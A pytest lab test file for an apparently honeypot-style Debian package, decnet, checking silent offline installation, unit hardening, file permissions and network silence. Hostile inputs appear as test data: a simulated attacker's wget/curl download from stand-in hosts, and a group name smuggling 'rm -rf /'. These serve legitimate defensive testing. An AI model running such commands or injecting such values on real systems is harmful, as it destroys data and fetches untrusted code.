# SPDX-License-Identifier: MIT
"""``apt install decnet`` on a machine without a network: nobody is asked, and everything works at once."""

import subprocess

import pytest

from decnet.catalog import SERVICES, Role, services_of
from decnet.install.render import AS_ROOT, unit_of
from scripts.lib.lab.lab import Lab
from tests.support.captures import captured
from tests.support.machines import Machines
from tests.support.package_hosts import HONEY, MOUNTED, UNITS, Installation, Packaged
from tests.support.packages import Package
from tests.support.signers import Signer
from tests.support.sources import expect_none

pytestmark = pytest.mark.lab

LONGEST_SECONDS = 60
QUIET_SECONDS = 600
IN_CHROOT = (
    "mount -t proc proc /proc && mount -t tmpfs tmpfs /run && "
    "DEBIAN_FRONTEND=noninteractive apt-get install --yes --quiet /srv/packages/*.deb </dev/null"
)


@pytest.mark.bookworm
def test_it_installs_without_a_question_and_a_network_and_everything_is_well_at_once(
    default_installation: Installation,
) -> None:
    found = default_installation
    assert found.finished.returncode == 0, found.finished.stdout + found.finished.stderr
    assert found.seconds < LONGEST_SECONDS
    assert found.facts["failed"] == ""
    assert [line.split()[:2] for line in found.facts["services"].splitlines()[1:]] == [
        [row.name, "ok"] for row in services_of(Role.MASTER)
    ]
    assert (found.facts["enabled"], found.facts["active"]) == ("enabled\n", "active\nactive\n")
    expect_none([line for line in found.facts["doctor"].splitlines() if not line.startswith("[  ok")])


@pytest.mark.bookworm
def test_a_strange_shell_changes_nothing(honey_installation: Installation) -> None:
    """Standard input closed, mask 077, no terminal, and a python3 that does not work first on the path."""
    found = honey_installation
    assert found.finished.returncode == 0, found.finished.stdout + found.finished.stderr
    assert found.facts["failed"] == ""
    expect_none([line for line in found.facts["doctor"].splitlines() if not line.startswith("[  ok")])


@pytest.mark.bookworm
def test_an_attack_is_listed_as_evidence(plain: Packaged) -> None:
    assert plain.log_in("echo reached") == "reached"
    assert plain.until_recorded(["reached"])["reached"] == 1
    assert {"opened", "credential", "command", "closed"} <= {row["kind"] for row in plain.records()}


@pytest.mark.bookworm
def test_nothing_leaves_the_machine_unasked(default_installation: Installation) -> None:
    """Not while it is installed, nor while decoys are put up and attacked, nor after it was booted again."""
    assert default_installation.packets == []


@pytest.mark.soak
@pytest.mark.bookworm
@pytest.mark.timeout(QUIET_SECONDS + 300)
def test_nothing_leaves_the_machine_for_ten_minutes(lab: Lab, plain: Packaged) -> None:
    with captured(lab) as capture:
        with plain.under_attack() as attack:
            plain.log_in("wget -O /tmp/x http://192.0.2.7/x; curl -o /tmp/y http://decnet.invalid/y; ping -c 1 192.0.2.7; true")
        assert capture.packets(wait_seconds=QUIET_SECONDS) == []
    assert attack.answered
    plain.until_well()


def test_there_is_no_docker_and_nothing_misses_it(plain: Packaged) -> None:
    assert plain.machine.run(["sh", "-c", "command -v docker"], check=False).returncode == 127
    assert plain.machine.run(["getent", "group", "docker"], check=False).returncode == 2
    assert plain.machine.failed_units() == []
    assert {decoy["state"] for decoy in plain.lines("status")} == {"up"}


def test_the_program_is_root_s_alone_and_the_identity_is_no_service_s_to_change(honey: Packaged) -> None:
    refused = honey.machine.run(["touch", "/opt/decnet/x"], user="honey", check=False)
    assert "Permission denied" in refused.stderr
    for path in ("/etc/decnet/package.conf", "/etc/decnet", "/etc/decnet/config.ini", "/opt/decnet", "/var/lib/decnet"):
        assert honey.machine.run(["test", "-w", path], user="honey", check=False).returncode == 1, path


def test_a_unit_is_the_vendor_s_with_one_drop_in_of_the_configurator(honey: Packaged) -> None:
    shown = honey.machine.output("systemctl", "cat", "decnet-bus.service").splitlines()
    files = [line for line in shown if line.startswith("# /")]
    assert files == [
        "# /usr/lib/systemd/system/decnet-bus.service",
        "# /etc/systemd/system/decnet-bus.service.d/10-decnet-identity.conf",
    ]
    assert "decnet configure" in "".join(shown[shown.index(files[1]) :])


@pytest.mark.bookworm
def test_systemd_has_nothing_to_say_against_the_units(honey: Packaged) -> None:
    targets = ("decnet.target", "decnet-master.target", "decnet-agent.target")
    verified = honey.machine.run(["systemd-analyze", "verify", "--man=no", *targets, *UNITS, *AS_ROOT])
    assert verified.stdout + verified.stderr == ""
    pages = [f"/usr/share/man/man8/{unit.removesuffix('.service')}.8.gz" for unit in (*UNITS, *AS_ROOT)]
    assert honey.machine.output("ls", *pages).splitlines() == sorted(pages)
    mighty = {unit_of(row) for row in SERVICES if "CAP_NET_ADMIN" in row.capabilities}
    for unit in (*UNITS, *AS_ROOT):
        tenths = 25 if unit in mighty else 15
        honey.machine.run(["systemd-analyze", "security", "--no-pager", f"--threshold={tenths}", unit])


def test_an_impossible_name_stops_the_package_and_a_possible_one_lets_it_go_on(
    machine: Machines, repository: Signer, suite: str
) -> None:
    """The policy of this host starts nothing, so nothing runs until it is booted again."""
    packaged = Packaged(machine(suite=suite, binds={repository.repository: MOUNTED}))
    booted = packaged.machine
    booted.put("/usr/sbin/policy-rc.d", "#!/bin/sh\nexit 101\n", mode=0o755)
    packaged.trust(repository)
    for name, value, written in (("user", "root", "=root"), ("group", "x; rm -rf /", "rm -rf")):
        packaged.answer(**{name: value})
        refused = packaged.install()
        assert refused.returncode == 100, refused.stdout
        assert state(packaged) == "iF "
        assert (
            booted.run(
                ["sh", "-c", f"grep -rlF '{written}' /etc/decnet* /etc/*/*decnet* /etc/*/*/*decnet*"], check=False
            ).stdout
            == ""
        )
        packaged.answer(**{name: "honey" if name == "user" else "secops"})
    booted.run(["dpkg", "--configure", "-a"], environment={"DEBIAN_FRONTEND": "noninteractive"})
    assert state(packaged) == "ii "
    assert (packaged.show("bus", "User"), packaged.show("bus", "Group")) == ("honey", "secops")
    assert booted.output("systemctl", "is-enabled", "decnet.target") == "enabled"
    assert set(packaged.processes().values()) == {0}
    booted.run(["rm", "/usr/sbin/policy-rc.d"])
    booted.reboot()
    packaged.until_well()


def test_an_image_is_installed_without_a_system_and_takes_its_identity_from_the_file(
    machine: Machines, package: Package, suite: str
) -> None:
    packaged = Packaged(machine(suite=suite))
    booted = packaged.machine
    booted.put("/srv/packages/decnet.deb", package.file.read_bytes())
    booted.put("/etc/decnet/package.conf", "# of the image\nDECNET_GROUP=adm\n")
    booted.power_off()
    command = ["unshare", "--mount", "--net", "--pid", "--fork", "chroot", str(booted.root), "sh", "-c", IN_CHROOT]
    done = subprocess.run(command, check=False, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    booted.power_on()
    packaged.until_well()
    assert booted.failed_units() == []
    assert (packaged.show("bus", "User"), packaged.show("bus", "Group")) == ("decnet", "adm")
    assert booted.output("sh", "-c", "debconf-show decnet | grep decnet/group") == "* decnet/group: adm"
    assert booted.output("head", "-n", "1", "/etc/decnet/package.conf") == "# of the image"


def test_no_service_goes_on_with_files_that_were_replaced(
    machine: Machines, honey_installation: Installation, repository: Signer
) -> None:
    """What needrestart finds where the operator restarts by hand shows that it would find something."""
    layer = honey_installation.layer
    booted = machine(on=layer, hostname=layer.hostname, binds={repository.repository: MOUNTED})
    packaged = Packaged(booted, HONEY)
    packaged.until_well()
    reinstall = ("install", "--reinstall", "decnet")
    booted.run(["decnet", "configure", "set", "DECNET_RESTART_ON_UPGRADE=no", "--yes"])
    booted.apt(*reinstall)
    assert set(UNITS) <= set(stale(packaged))
    booted.run(["decnet", "configure", "set", "DECNET_RESTART_ON_UPGRADE=yes", "--yes"])
    booted.apt(*reinstall)
    packaged.until_well()
    assert stale(packaged) == []


def stale(packaged: Packaged) -> list[str]:
    """Return the units that needrestart would restart."""
    listed = packaged.machine.output("needrestart", "-b", "-r", "l").splitlines()
    return [line.removeprefix("NEEDRESTART-SVC: ") for line in listed if line.startswith("NEEDRESTART-SVC: ")]


def state(packaged: Packaged) -> str:
    """Return what dpkg says of the package: ``ii`` is installed, ``iF`` half configured."""
    return packaged.machine.output("dpkg-query", "--show", "--showformat=${db:Status-Abbrev}", "decnet")
